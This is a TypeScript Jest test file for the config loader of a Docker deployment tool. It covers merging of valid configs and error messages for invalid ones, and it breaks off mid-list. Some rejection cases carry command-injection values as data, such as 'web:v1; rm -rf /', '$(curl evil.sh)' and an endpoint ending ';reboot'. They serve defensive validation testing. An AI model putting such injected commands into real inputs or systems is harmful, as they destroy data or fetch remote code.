// The config loader: valid files load into fully merged groups; invalid ones list every problem at once.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import YAML from 'yaml';
import { configSecrets, ConfigOverrides, loadConfig, loadConfigWithRaw, LoadOptions } from '../../src/config/load';
import { InputError } from '../../src/errors';
import { endpoint } from '../support/endpoint';
import { formatEndpoint } from '../../src/hosts/endpoint';

const CA = '-----BEGIN CERTIFICATE-----\nMIIBca\n-----END CERTIFICATE-----\n';
const CERT = '-----BEGIN CERTIFICATE-----\nMIIBcert\n-----END CERTIFICATE-----\n';
const KEY = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n';
const DIGEST = 'sha256:' + 'a'.repeat(64);

const ENV = { CA_PEM: CA, CERT_PEM: CERT, KEY_PEM: KEY, DATABASE_URL: 'postgres://u:hunter2@db/app' };

// The example of DESIGN.md, as written there.
const DESIGN_EXAMPLE = `
service: web                          # container name on every host; [a-z0-9][a-z0-9_.-]*
image: registry.example.com/acme/web  # repository; tag or digest comes from the deploy input
groups:                               # rolled out one after another, in this order
  web:
    hosts:
      - tcp://10.210.0.11:2375        # Docker endpoint: unix://, tcp:// (tls: below), ssh://user@host
      - ssh://deploy@web-2.example.com
      - name: web-3
        docker: tcp://web-3.example.com:2376
        tls: {ca: CA_PEM, cert: CERT_PEM, key: KEY_PEM}   # file paths or env var names
        address: 10.0.0.3             # where health checks go; default: the endpoint's host
  worker:
    hosts: [ssh://deploy@worker-1.example.com]
    health: {command: ["/app/bin/ready"]}                # per-group overrides of any section
container:
  ports: ["8080:8080"]
  env: {APP_ENV: production}
  secret-env: [DATABASE_URL]          # values read from the action's environment, always masked
  volumes: ["/srv/web/data:/data"]
  command: []                         # default: the image's
  restart: unless-stopped
  stop-timeout: 10s
strategy:
  batches: [1, "25%", "100%"]         # canary first; last value repeats; % of the group, rounded up, ≥ 1
  pause: 0s                           # bake time after each healthy batch
  max-unhealthy: 0                    # failure budget for the whole rollout (count or %); over it → roll back
  parallel: 32                        # hosts in flight at once
  keep: 3                             # previous containers kept stopped on each host, for instant rollback
health:
  http: {path: /health, port: 8080, status: "200-299", body: "ok", max-latency: 1s}
  tcp: {port: 8080}
  command: ["/bin/healthcheck"]       # run inside the new container (docker exec); exit 0 = healthy
  docker-health: true                 # also wait for the image's own HEALTHCHECK, when it has one
  start-period: 0s
  interval: 1s
  timeout: 2s
  healthy-threshold: 1                # consecutive passes to call a host healthy
  unhealthy-threshold: 3              # consecutive failures to call it unhealthy
  deadline: 60s                       # a host that is not healthy by then has failed
gates:                                # checked after each healthy batch, before the next one
  - prometheus: {url: http://prometheus:9090, query: 'sum(rate(errors[1m]))', max: 0.01}
`;

const MINIMAL = `
service: web
image: registry.example.com/acme/web:v1
groups:
  web:
    hosts: [tcp://10.210.0.11:2375]
`;

function load(text: string, options: Partial<LoadOptions> = {}) {
  return loadConfig({ text, env: ENV, ...options });
}

/** The problems of a load that must fail; anything but an InputError fails the test. */
function problemsOf(text: string, options: Partial<LoadOptions> = {}): string[] {
  try {
    load(text, options);
  } catch (err) {
    if (!(err instanceof InputError)) throw err;
    return err.problems;
  }
  throw new Error('expected an InputError, but the config loaded');
}

/** The minimal config with one field set (or deleted, with undefined), as YAML. */
function minimalWith(field: string, value: unknown): string {
  const doc = YAML.parse(MINIMAL);
  const keys = field.split('.');
  let node = doc;
  for (const key of keys.slice(0, -1)) node = node[key] ??= {};
  if (value === undefined) delete node[keys.at(-1)!];
  else node[keys.at(-1)!] = value;
  return YAML.stringify(doc);
}

describe('valid files', () => {
  test('the DESIGN.md example loads, with the deploy input completing the image', () => {
    const config = load(DESIGN_EXAMPLE, { overrides: { image: 'v2' } });
    expect(config.service).toBe('web');
    expect(config.image).toBe('registry.example.com/acme/web:v2');
    expect(config.lockTimeoutMs).toBe(2 * 60_000);
    expect(config.lockWaitMs).toBe(0);
    expect(config.groups.map((g) => g.name)).toEqual(['web', 'worker']);
    const [web, worker] = config.groups;
    expect(web.hosts).toEqual([
      { name: '10.210.0.11', group: 'web', endpoint: endpoint('tcp://10.210.0.11:2375'), address: '10.210.0.11' },
      {
        name: 'web-2.example.com',
        group: 'web',
        endpoint: endpoint('ssh://deploy@web-2.example.com'),
        address: 'web-2.example.com',
      },
      {
        name: 'web-3',
        group: 'web',
        endpoint: endpoint('tcp://web-3.example.com:2376'),
        address: '10.0.0.3',
        tls: { ca: CA, cert: CERT, key: KEY, verify: true },
      },
    ]);
    expect(web.container).toEqual({
      ports: ['8080:8080'],
      env: { APP_ENV: 'production' },
      secretEnv: { DATABASE_URL: ENV.DATABASE_URL },
      volumes: ['/srv/web/data:/data'],
      restart: 'unless-stopped',
      stopTimeoutMs: 10_000,
      labels: {},
    });
    expect(web.strategy).toEqual({
      batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
      pauseMs: 0,
      maxUnhealthy: { count: 0 },
      parallel: 32,
      keep: 3,
    });
    expect(web.health).toEqual({
      http: {
        path: '/health',
        port: 8080,
        scheme: 'http',
        status: [200, 299],
        body: { text: 'ok' },
        maxLatencyMs: 1000,
      },
      tcp: { port: 8080 },
      command: ['/bin/healthcheck'],
      dockerHealth: true,
      startPeriodMs: 0,
      intervalMs: 1000,
      timeoutMs: 2000,
      healthyThreshold: 1,
      unhealthyThreshold: 3,
      deadlineMs: 60_000,
    });
    // The worker names a check of its own: its checks replace the top-level ones, timings still apply.
    expect(worker.health).toEqual({
      command: ['/app/bin/ready'],
      dockerHealth: true,
      startPeriodMs: 0,
      intervalMs: 1000,
      timeoutMs: 2000,
      healthyThreshold: 1,
      unhealthyThreshold: 3,
      deadlineMs: 60_000,
    });
    expect(worker.container).toEqual(web.container);
  });

  test('a minimal file gets every default', () => {
    expect(load(MINIMAL)).toEqual({
      service: 'web',
      image: 'registry.example.com/acme/web:v1',
      lockTimeoutMs: 120_000,
      lockWaitMs: 0,
      strategy: {
        batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
        pauseMs: 0,
        maxUnhealthy: { count: 0 },
        parallel: 32,
        keep: 3,
      },
      groups: [
        {
          name: 'web',
          hosts: [
            { name: '10.210.0.11', group: 'web', endpoint: endpoint('tcp://10.210.0.11:2375'), address: '10.210.0.11' },
          ],
          container: {
            ports: [],
            env: {},
            secretEnv: {},
            volumes: [],
            restart: 'unless-stopped',
            stopTimeoutMs: 10_000,
            labels: {},
          },
          strategy: {
            batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
            pauseMs: 0,
            maxUnhealthy: { count: 0 },
            parallel: 32,
            keep: 3,
          },
          health: {
            dockerHealth: true,
            startPeriodMs: 0,
            intervalMs: 1000,
            timeoutMs: 2000,
            healthyThreshold: 1,
            unhealthyThreshold: 3,
            deadlineMs: 60_000,
          },
        },
      ],
    });
  });

  test('examples/aviary.yml loads', () => {
    const file = path.join(__dirname, '../../examples/aviary.yml');
    const config = loadConfig({ path: file, env: {}, overrides: { image: 'v1' } });
    expect(config.service).toBe('hello');
    expect(config.groups.map((g) => g.name)).toEqual(['web', 'worker']);
    expect(formatEndpoint(config.groups[0].hosts[0].endpoint)).toBe('tcp://10.210.0.11:2375');
    expect(config.groups[0].health.http).toMatchObject({ path: '/health', port: 8080, body: { text: 'ok' } });
  });

  test('per-group sections merge over the top-level ones field by field', () => {
    const config = load(`
service: api
image: registry.example.com/acme/api:1.0
container:
  ports: ["8080:8080"]
  env: {A: "1", B: "2"}
  labels: {team: core}
  secret-env: [DATABASE_URL]
  command: ["/app/server"]
  stop-timeout: 20s
strategy: {batches: [1, "50%"], pause: 10s, parallel: 8}
health:
  http: {path: /health, port: 8080}
  interval: 2s
  deadline: 90s
groups:
  web:
    hosts: [tcp://10.0.0.1:2375]
  jobs:
    hosts: [tcp://10.0.0.2:2375]
    container:
      env: {B: "two", C: 3}
      labels: {role: jobs}
      command: []
      restart: on-failure
    strategy: {batches: ["100%"], keep: 1}
    health:
      tcp: {port: 9000}
      deadline: 2m
`);
    const [web, jobs] = config.groups;
    expect(web.container.command).toEqual(['/app/server']);
    expect(jobs.container).toEqual({
      ports: ['8080:8080'],
      env: { A: '1', B: 'two', C: '3' },
      labels: { team: 'core', role: 'jobs' },
      secretEnv: { DATABASE_URL: ENV.DATABASE_URL },
      volumes: [],
      restart: 'on-failure',
      stopTimeoutMs: 20_000,
    });
    expect(jobs.strategy).toEqual({
      batches: [{ percent: 100 }],
      pauseMs: 10_000,
      maxUnhealthy: { count: 0 },
      parallel: 8,
      keep: 1,
    });
    expect(jobs.health).toEqual({
      tcp: { port: 9000 },
      dockerHealth: true,
      startPeriodMs: 0,
      intervalMs: 2000,
      timeoutMs: 2000,
      healthyThreshold: 1,
      unhealthyThreshold: 3,
      deadlineMs: 120_000,
    });
    expect(web.health.http).toEqual({ path: '/health', port: 8080, scheme: 'http', status: [200, 299] });
    expect(web.health.deadlineMs).toBe(90_000);
    expect(config.strategy.parallel).toBe(8);
  });

  test('a group can turn every check off with docker-health: false', () => {
    const config = load(MINIMAL + '    health: {docker-health: false}\nhealth: {http: {port: 80}}\n');
    expect(config.groups[0].health).toMatchObject({ dockerHealth: false });
    expect(config.groups[0].health.http).toBeUndefined();
  });

  test('deploy inputs win over the file, for the top level and every group', () => {
    const text = DESIGN_EXAMPLE.replace(
      'health: {command: ["/app/bin/ready"]}',
      'strategy: {batches: [2], parallel: 2}',
    );
    const overrides: ConfigOverrides = {
      image: 'registry.example.com/acme/web:v9',
      groups: ['worker'],
      batches: '1, 50%',
      parallel: '4',
      maxUnhealthy: '10%',
      pause: '30s',
      keep: '5',
      lockTimeout: '10m',
    };
    const config = load(text, { overrides });
    expect(config.image).toBe('registry.example.com/acme/web:v9');
    expect(config.lockTimeoutMs).toBe(600_000);
    expect(config.groups.map((g) => g.name)).toEqual(['worker']);
    const expected = {
      batches: [{ count: 1 }, { percent: 50 }],
      pauseMs: 30_000,
      maxUnhealthy: { percent: 10 },
      parallel: 4,
      keep: 5,
    };
    expect(config.groups[0].strategy).toEqual(expected);
    expect(config.strategy).toEqual(expected);
  });

  test.each([
    ['1,25%,100%', [{ count: 1 }, { percent: 25 }, { percent: 100 }]],
    ['[1, "25%", "100%"]', [{ count: 1 }, { percent: 25 }, { percent: 100 }]],
    ['2\n50%', [{ count: 2 }, { percent: 50 }]],
    ['12.5%', [{ percent: 12.5 }]],
  ])('input batches %j', (batches, expected) => {
    expect(load(MINIMAL, { overrides: { batches } }).strategy.batches).toEqual(expected);
  });

  test('selected groups come in file order, whatever the order of the input', () => {
    const config = load(DESIGN_EXAMPLE, { overrides: { image: 'v1', groups: 'worker, web' } });
    expect(config.groups.map((g) => g.name)).toEqual(['web', 'worker']);
  });

  test.each([
    // [image in the file, image input, the image deployed]
    ['registry.example.com/acme/web', 'v2', 'registry.example.com/acme/web:v2'],
    ['registry.example.com/acme/web:v1', 'v2', 'registry.example.com/acme/web:v2'],
    ['registry.example.com/acme/web:v1', undefined, 'registry.example.com/acme/web:v1'],
    ['registry.example.com/acme/web', DIGEST, `registry.example.com/acme/web@${DIGEST}`],
    ['registry.example.com/acme/web:v1', `@${DIGEST}`, `registry.example.com/acme/web@${DIGEST}`],
    ['registry.example.com/acme/web', 'other.example.com:5000/x/y:3.1', 'other.example.com:5000/x/y:3.1'],
    ['registry.example.com/acme/web', `localhost:5000/web@${DIGEST}`, `localhost:5000/web@${DIGEST}`],
    ['10.210.0.2:5000/aviary/hello', 'sha-1a2b3c4', '10.210.0.2:5000/aviary/hello:sha-1a2b3c4'],
    ['nginx', 'v1.25.3', 'nginx:v1.25.3'],
    [`registry.example.com/acme/web@${DIGEST}`, undefined, `registry.example.com/acme/web@${DIGEST}`],
    ['[::1]:5000/acme/web', 'V2_final', '[::1]:5000/acme/web:V2_final'],
  ])('image %s + input %s → %s', (fileImage, input, expected) => {
    expect(load(minimalWith('image', fileImage), { overrides: { image: input } }).image).toBe(expected);
  });

  test('without a file image, a whole reference in the input is enough', () => {
    expect(
      load(minimalWith('image', undefined), { overrides: { image: 'registry.example.com/acme/web:v3' } }).image,
    ).toBe('registry.example.com/acme/web:v3');
  });

  test('a rollback to the previous version needs no tag', () => {
    expect(load(minimalWith('image', 'registry.example.com/acme/web'), { requireImageVersion: false }).image).toBe(
      'registry.example.com/acme/web',
    );
  });

  test('host names and addresses default from the endpoint; two endpoints on one host get their port', () => {
    const config = load(
      minimalWith('groups.web.hosts', [
        'unix:///var/run/docker.sock',
        'tcp://10.0.0.5:2375',
        'tcp://10.0.0.5:2376',
        'ssh://deploy@Web-1.Example.com:2222',
        'tcp://[fd00::1]:2375',
        { docker: 'ssh://deploy@10.0.0.9', name: 'db-primary', address: '[fd00::9]' },
      ]),
    );
    expect(config.groups[0].hosts.map((h) => [h.name, formatEndpoint(h.endpoint), h.address])).toEqual([
      ['localhost', 'unix:///var/run/docker.sock', '127.0.0.1'],
      ['10.0.0.5:2375', 'tcp://10.0.0.5:2375', '10.0.0.5'],
      ['10.0.0.5:2376', 'tcp://10.0.0.5:2376', '10.0.0.5'],
      ['web-1.example.com', 'ssh://deploy@web-1.example.com:2222', 'web-1.example.com'],
      ['fd00::1', 'tcp://[fd00::1]:2375', 'fd00::1'],
      ['db-primary', 'ssh://deploy@10.0.0.9', 'fd00::9'],
    ]);
  });

  test('TLS material comes from files next to the config, or from environment variables', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'aviary-config-'));
    try {
      fs.mkdirSync(path.join(dir, 'certs'));
      fs.writeFileSync(path.join(dir, 'certs/ca.pem'), CA);
      fs.writeFileSync(path.join(dir, 'key.pem'), KEY);
      const file = path.join(dir, 'aviary.yml');
      fs.writeFileSync(
        file,
        minimalWith('groups.web.hosts', [
          {
            docker: 'tcp://10.0.0.1:2376',
            tls: { ca: 'certs/ca.pem', cert: 'CERT_PEM', key: path.join(dir, 'key.pem') },
          },
          { docker: 'tcp://10.0.0.2:2376', tls: { verify: false } },
        ]),
      );
      const config = loadConfig({ path: file, env: ENV });
      expect(config.groups[0].hosts.map((h) => h.tls)).toEqual([
        { ca: CA, cert: CERT, key: KEY, verify: true },
        { verify: false },
      ]);
      expect(configSecrets(config)).toEqual([KEY]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test('configSecrets lists secret-env values and TLS keys, not certificates', () => {
    const secrets = configSecrets(load(DESIGN_EXAMPLE, { overrides: { image: 'v1' } }));
    expect(secrets.sort()).toEqual([ENV.DATABASE_URL, KEY].sort());
  });

  test('gates and hooks are validated with the rest, every problem naming its field', () => {
    expect(
      problemsOf(
        MINIMAL +
          '    gates: [{anything: 1}]\ngates: [{prometheus: {url: "http://p:9090"}}]\nhooks: {pre-deploy: ["/x"]}\n',
      ),
    ).toEqual([
      'groups.web.gates[0].anything: is not a known field (expected one of: name, prometheus, http, max, min, condition, for, interval, failure-limit, no-data, timeout, fresh)',
      'groups.web.gates[0]: has no source (expected prometheus: {url, query} or http: {url, path})',
      'gates[0].prometheus.query: is missing (expected a PromQL query like "sum(rate(http_errors_total[1m]))")',
      'hooks.pre-deploy: is not a known field (expected one of: before-stop, after-healthy)',
    ]);
    const { raw, config } = loadConfigWithRaw({
      text:
        MINIMAL +
        'gates: [{prometheus: {url: "http://p:9090", query: "up"}, min: 1}]\nhooks: {before-stop: ["/x", "{{host}}"]}\n',
      env: {},
    });
    expect(config.groups[0].gates).toHaveLength(1);
    expect(config.groups[0].hooks?.beforeStop).toBeDefined();
    expect(raw.gates).toEqual([{ prometheus: { url: 'http://p:9090', query: 'up' }, min: 1 }]);
  });

  test.each([
    [200, [200, 200]],
    ['200', [200, 200]],
    ['200-299', [200, 299]],
    ['2xx', [200, 299]],
    ['301 - 302', [301, 302]],
  ])('http status %j', (status, expected) => {
    expect(load(minimalWith('health', { http: { port: 80, status } })).groups[0].health.http?.status).toEqual(expected);
  });

  test.each([
    [
      'ports',
      ['80', '8080:80', '127.0.0.1:8080:80/tcp', '[::1]:53:53/udp', '127.0.0.1::80', '8000-8010:8000-8010', 9090],
    ],
    ['volumes', ['/srv/data:/data', 'named:/data:ro', '/etc/app:/etc/app:rw']],
  ])('container.%s accepts Docker syntax', (field, value) => {
    expect(() => load(minimalWith(`container.${field}`, value))).not.toThrow();
  });

  test('an empty section (everything under it commented out) means the defaults', () => {
    const config = load(MINIMAL + '    strategy:\ncontainer:\nhealth:\n');
    expect(config.groups[0].strategy).toEqual(config.strategy);
    expect(config.groups[0].health.dockerHealth).toBe(true);
  });

  test('env values may be numbers and booleans; they become strings', () => {
    expect(load(minimalWith('container.env', { PORT: 8080, DEBUG: false, EMPTY: '' })).groups[0].container.env).toEqual(
      { PORT: '8080', DEBUG: 'false', EMPTY: '' },
    );
  });
});

describe('invalid files', () => {
  test.each([
    [
      'service',
      'Web',
      'service: "Web" is not a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters)',
    ],
    ['service', undefined, 'service: is missing (expected a service name like "web")'],
    [
      'service',
      'web\u0007',
      'service: "web\\u0007" contains control characters (expected a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters))',
    ],
    [
      'image',
      'registry.example.com/Acme/web:v1',
      'image: "registry.example.com/Acme/web:v1" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
    ],
    [
      'image',
      'web:v1; rm -rf /',
      'image: "web:v1; rm -rf /" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
    ],
    [
      'image',
      '$(curl evil.sh)',
      'image: "$(curl evil.sh)" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
    ],
    [
      'image',
      'registry.example.com/acme/web',
      'input image: is missing (expected a tag like "v2" or a digest for registry.example.com/acme/web; the file gives only the repository)',
    ],
    [
      'image',
      undefined,
      'image: is missing (expected an image repository like "registry.example.com/acme/web" (or a whole reference in input image))',
    ],
    [
      'groups',
      undefined,
      'groups: is missing (expected a mapping of group names to groups, like {web: {hosts: [tcp://10.0.0.1:2375]}})',
    ],
    ['groups', {}, 'groups: {} is not a mapping with at least one group'],
    [
      'groups.Web',
      { hosts: ['tcp://10.0.0.2:2375'] },
      'groups.Web: "Web" is not a group name like "web" (lowercase letters, digits, "_" and "-"; at most 63 characters)',
    ],
    [
      'groups.web.hosts',
      [],
      'groups.web.hosts: [] is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com] (a group needs at least one host)',
    ],
    [
      'groups.web.hosts',
      'tcp://10.0.0.1:2375',
      'groups.web.hosts: "tcp://10.0.0.1:2375" is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com]',
    ],
    [
      'groups.web.hosts',
      ['tcp://10.0.0.1'],
      'groups.web.hosts[0]: "tcp://10.0.0.1" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
    ],
    [
      'groups.web.hosts',
      ['ssh://web-1.example.com'],
      'groups.web.hosts[0]: "ssh://web-1.example.com" is not an ssh endpoint with a user and a host, like "ssh://deploy@web-1.example.com" or "ssh://deploy@10.0.0.1:2222"',
    ],
    [
      'groups.web.hosts',
      ['unix://var/run/docker.sock'],
      'groups.web.hosts[0]: "unix://var/run/docker.sock" is not a unix socket endpoint with an absolute path, like "unix:///var/run/docker.sock"',
    ],
    [
      'groups.web.hosts',
      ['http://10.0.0.1:2375'],
      'groups.web.hosts[0]: "http://10.0.0.1:2375" is not a Docker endpoint like "tcp://10.0.0.1:2375", "ssh://deploy@web-1.example.com" or "unix:///var/run/docker.sock"',
    ],
    [
      'groups.web.hosts',
      ['tcp://10.0.0.256:2375'],
      'groups.web.hosts[0]: "tcp://10.0.0.256:2375" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
    ],
    [
      'groups.web.hosts',
      ['tcp://10.0.0.1:2375;reboot'],
      'groups.web.hosts[0]: "tcp://10.0.0.1:2375;reboot" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
    ],
    [
      'groups.web.hosts',
      ['tcp://10.0.0.1:2375', 'tcp://10.0.0.1:2375'],
      'groups.web.hosts[1]: "tcp://10.0.0.1:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
    ],
    [
      'groups.web.hosts',
      ['ssh://a@web-1', 'ssh://b@WEB-1:22'],
      'groups.web.hosts[1]: "ssh://b@WEB-1:22" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
    ],
    [
      'groups.web.hosts',
      [
        { name: 'a', docker: 'tcp://10.0.0.1:2375' },
        { name: 'a', docker: 'tcp://10.0.0.2:2375' },
      ],
      'groups.web.hosts[1]: the host name "a" is also the name of groups.web.hosts[0] (host names must be unique; set name:)',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://10.0.0.1:2375', address: 'not an address' }],
      'groups.web.hosts[0].address: "not an address" is not a host name or an IP address like "10.0.0.3"',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://10.0.0.1:2375', port: 22 }],
      'groups.web.hosts[0].port: is not a known field (expected one of: name, docker, address, tls)',
    ],
    [
      'groups.web.hosts',
      [{ name: 'x' }],
      'groups.web.hosts[0].docker: is missing (expected a Docker endpoint like "tcp://10.0.0.1:2375")',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'ssh://deploy@web-1', tls: { verify: false } }],
      "groups.web.hosts[0].tls: is only for tcp:// endpoints (this host's endpoint is ssh://)",
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { ca: 'MISSING_CA' } }],
      'groups.web.hosts[0].tls.ca: environment variable MISSING_CA is not set (expected it to hold PEM text)',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { ca: 'DATABASE_URL' } }],
      'groups.web.hosts[0].tls.ca: environment variable DATABASE_URL does not hold PEM text (expected "-----BEGIN …")',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { ca: 'certs/ca.pem' } }],
      'groups.web.hosts[0].tls.ca: file "certs/ca.pem" was not found (looked for /nonexistent/certs/ca.pem; expected a PEM file, or an environment variable name like CA_PEM)',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM' } }],
      'groups.web.hosts[0].tls: cert and key go together (expected both or neither)',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM', key: KEY } }],
      'groups.web.hosts[0].tls.key: a private key must not be written in the config file (expected a file path or an environment variable name)',
    ],
    [
      'groups.web.hosts',
      [{ docker: 'tcp://web-1:2376', tls: { verify: 'no' } }],
      'groups.web.hosts[0].tls.verify: "no" is not true or false',
    ],
    [
      'groups.web.healthcheck',
      {},
      'groups.web.healthcheck: is not a known field (expected one of: hosts, container, strategy, health, gates, hooks, proxy)',
    ],
    [
      'container.ports',
      ['70000:80'],
      'container.ports[0]: "70000:80" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (ports are numbers from 1 to 65535, ranges low-high)',
    ],
    [
      'container.ports',
      ['80:80/http'],
      'container.ports[0]: "80:80/http" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (the protocol must be tcp, udp or sctp)',
    ],
    [
      'container.volumes',
      ['/srv:data'],
      'container.volumes[0]: "/srv:data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])',
    ],
    [
      'container.volumes',
      ['./data:/data'],
      'container.volumes[0]: "./data:/data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])',
    ],
    [
      'container.env',
      { '1X': 'a' },
      'container.env.1X: "1X" is not a variable name like APP_ENV (letters, digits and "_", not starting with a digit)',
    ],
    ['container.env', { A: null }, 'container.env.A: null is not a string, a number or true/false'],
    [
      'container.env',
      ['A=1'],
      'container.env: ["A=1"] is not a mapping of variable names to values, like {APP_ENV: production}',
    ],
    [
      'container.secret-env',
      ['NOT_SET'],
      "container.secret-env[0]: environment variable NOT_SET is not set (expected its value in the step's env, e.g. NOT_SET: ${{ secrets.NOT_SET }})",
    ],
    [
      'container.secret-env',
      'DATABASE_URL',
      'container.secret-env: "DATABASE_URL" is not a list of variable names like [DATABASE_URL]',
    ],
    [
      'container.restart',
      'sometimes',
      'container.restart: "sometimes" is not one of no, always, unless-stopped, on-failure',
    ],
    [
      'container.stop-timeout',
      '-5s',
      'container.stop-timeout: "-5s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
    ],
    [
      'container.command',
      '/app/server --port 8080',
      'container.command: "/app/server --port 8080" is not a list of strings like ["/app/server", "--port", "8080"] (no shell runs it: write each argument as its own item)',
    ],
    [
      'container.labels',
      { 'aviary.service': 'x' },
      'container.labels["aviary.service"]: "aviary.service" is not a label of your own (aviary.* labels hold the deploy record and are written by aviary)',
    ],
    ['container.network', 'my net', 'container.network: "my net" is not a Docker network name like "web"'],
    [
      'container.ports',
      'x'.repeat(5000),
      `container.ports: "${'x'.repeat(75)}…" is not a list of port mappings like ["8080:8080"]`,
    ],
    [
      'container.env',
      { BIG: 'x'.repeat(5000) },
      'container.env.BIG: a string of 5000 characters is too long (at most 4096; expected a string, a number or true/false)',
    ],
    ['strategy.batches', [1, '25', '100%'], 'strategy.batches[1]: "25" is not a count or a percentage like "25%"'],
    ['strategy.batches', [], 'strategy.batches: [] is not a non-empty list of batch sizes like [1, "25%", "100%"]'],
    ['strategy.batches', [1, '150%'], 'strategy.batches[1]: "150%" is not a percentage above 0% and at most 100%'],
    ['strategy.batches', ['0%'], 'strategy.batches[0]: "0%" is not a percentage above 0% and at most 100%'],
    ['strategy.batches', [0], 'strategy.batches[0]: 0 is not a count or a percentage like "25%"'],
    ['strategy.batches', [1e9], 'strategy.batches[0]: 1000000000 is not a count from 1 to 10000'],
    ['strategy.max-unhealthy', '120%', 'strategy.max-unhealthy: "120%" is not a percentage from 0% to 100%'],
    [
      'strategy.max-unhealthy',
      -1,
      'strategy.max-unhealthy: -1 is not a count of hosts (0 or more) or a percentage like "10%"',
    ],
    ['strategy.parallel', 0, 'strategy.parallel: 0 is not a whole number from 1 to 1024'],
    ['strategy.parallel', 5000, 'strategy.parallel: 5000 is not a whole number from 1 to 1024'],
    ['strategy.keep', -1, 'strategy.keep: -1 is not a whole number from 0 to 100'],
    [
      'strategy.pause',
      5,
      'strategy.pause: 5 is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
    ],
    ['strategy.batchs', [1], 'strategy.batchs: is not a known field (did you mean "batches"?)'],
    ['strategy.max_unhealthy', 1, 'strategy.max_unhealthy: is not a known field (did you mean "max-unhealthy"?)'],
    ['strategy.deadline', '1m', 'strategy.deadline: is not a known field (deadline belongs in health)'],
    ['heath', {}, 'heath: is not a known field (did you mean "health"?)'],
    [
      'health.command',
      '/bin/check',
      'health.command: "/bin/check" is not a list of strings like ["/bin/check"] (no shell runs it: write each argument as its own item)',
    ],
    ['health.command', [], 'health.command: [] is not a list of strings like ["/bin/check"]'],
    [
      'health.command',
      { run: '/bin/check' },
      'health.command: {"run":"/bin/check"} is not a list of strings like ["/bin/check"]',
    ],
    ['health.command', ['/bin/check', ''], 'health.command[1]: "" is not a non-empty string'],
    ['health.http', { path: '/health' }, 'health.http.port: is missing (expected a port number from 1 to 65535)'],
    [
      'health.http',
      { port: 80, path: 'health' },
      'health.http.path: "health" is not a URL path like "/health" (starting with "/", no spaces)',
    ],
    [
      'health.http',
      { port: 80, status: '600' },
      'health.http.status: "600" is not a status like 200, "200-299" or "2xx"',
    ],
    ['health.http', { port: 80, scheme: 'ftp' }, 'health.http.scheme: "ftp" is not http or https'],
    [
      'health.http',
      { port: 80, 'body-regex': '(' },
      'health.http.body-regex: "(" is not a valid regular expression (Invalid regular expression: /(/: Unterminated group)',
    ],
    [
      'health.http',
      { port: 80, body: 'ok', 'body-regex': 'ok' },
      'health.http.body: give body or body-regex, not both',
    ],
    ['health.tcp', { port: '8080' }, 'health.tcp.port: "8080" is not a port number from 1 to 65535'],
    ['health.docker-health', 'yes', 'health.docker-health: "yes" is not true or false'],
    ['health.interval', '0s', 'health.interval: "0s" is not a duration greater than 0, like "2s"'],
    ['health.deadline', '30d', 'health.deadline: "30d" is not a duration like "500ms", "2s" or "5m" (at most 7 days)'],
    [
      'health.deadline',
      '200h',
      'health.deadline: "200h" is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
    ],
    ['health.healthy-threshold', 0, 'health.healthy-threshold: 0 is not a whole number from 1 to 100'],
    ['lock-timeout', '0', 'lock-timeout: "0" is not a duration greater than 0, like "2s"'],
    [
      'groups.web.strategy',
      { 'max-unhealthy': 1 },
      'groups.web.strategy.max-unhealthy: is the failure budget of the whole rollout, not of a group: set it in the top-level strategy (or the max-unhealthy input)',
    ],
  ])('%s (case %#)', (field, value, message) => {
    expect(problemsOf(minimalWith(field, value), { path: '/nonexistent/aviary.yml' })).toEqual([message]);
  });

  test.each<[string, ConfigOverrides, string]>([
    ['groups', { groups: 'web,db' }, 'input groups: "db" is not a group in the config (known: web)'],
    ['batches', { batches: '1,x' }, 'input batches[1]: "x" is not a count or a percentage like "25%"'],
    [
      'batches',
      { batches: '[1, "25%"' },
      'input batches: "[1, \\"25%\\"" is not a list like "1,25%,100%" or [1, "25%", "100%"]',
    ],
    ['parallel', { parallel: 'many' }, 'input parallel: "many" is not a whole number from 1 to 1024'],
    ['max-unhealthy', { maxUnhealthy: '101%' }, 'input max-unhealthy: "101%" is not a percentage from 0% to 100%'],
    [
      'pause',
